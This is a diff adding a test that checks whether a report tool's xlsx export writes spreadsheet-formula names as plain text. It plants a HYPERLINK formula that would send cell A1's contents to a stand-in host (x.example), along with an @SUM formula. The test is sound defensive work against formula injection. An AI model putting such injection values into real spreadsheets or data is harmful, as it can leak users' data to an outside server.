@@ -121,6 +121,30 @@ def check(shangce, profile, lang, tmp):
     ok(widths, name + ': column widths set')
 
 
+def hostile(shangce, profile, tmp):
+    """Names that a spreadsheet would run as formulas stay text."""
+    here = os.path.dirname(os.path.abspath(__file__))
+    with open(os.path.join(here, '..', 'data', 'engine', 'engine-basic.xml'), encoding='utf-8') as f:
+        xml = f.read()
+    xml = xml.replace('Alpha test program', '=HYPERLINK(&quot;http://x.example/&quot;&amp;A1,&quot;x&quot;)', 1)
+    xml = xml.replace('First-sale cash', '@SUM(A1:A9)', 1)
+    programs = os.path.join(tmp, 'hostile.xml')
+    with open(programs, 'w', encoding='utf-8') as f:
+        f.write(xml)
+    out = os.path.join(tmp, 'hostile.xlsx')
+    r = run([shangce, '--report', '--format', 'xlsx', '-o', out, '--profile', profile,
+             '--programs', programs, '--lang', 'en'])
+    ok(r.returncode == 0, 'hostile names: written (%s)' % r.stderr.decode()[:200])
+    if r.returncode != 0:
+        return
+    wb = openpyxl.load_workbook(out)
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row
+             if isinstance(c.value, str) and ('HYPERLINK' in c.value or '@SUM' in c.value)]
+    ok(any('HYPERLINK' in c.value for c in cells) and any('@SUM' in c.value for c in cells),
+       'hostile names: both reach the workbook')
+    ok(cells and all(c.data_type == 's' for c in cells), 'hostile names: written as text, never a formula')
+
+
 def main():
     shangce = sys.argv[1]
     with tempfile.TemporaryDirectory() as tmp:
@@ -130,6 +154,7 @@ def main():
         for profile in sys.argv[2:]:
             for lang in ('en', 'zh_CN'):
                 check(shangce, profile, lang, tmp)
+        hostile(shangce, sys.argv[2], tmp)
     print('1..%d' % n)
     sys.exit(1 if failed else 0)
 
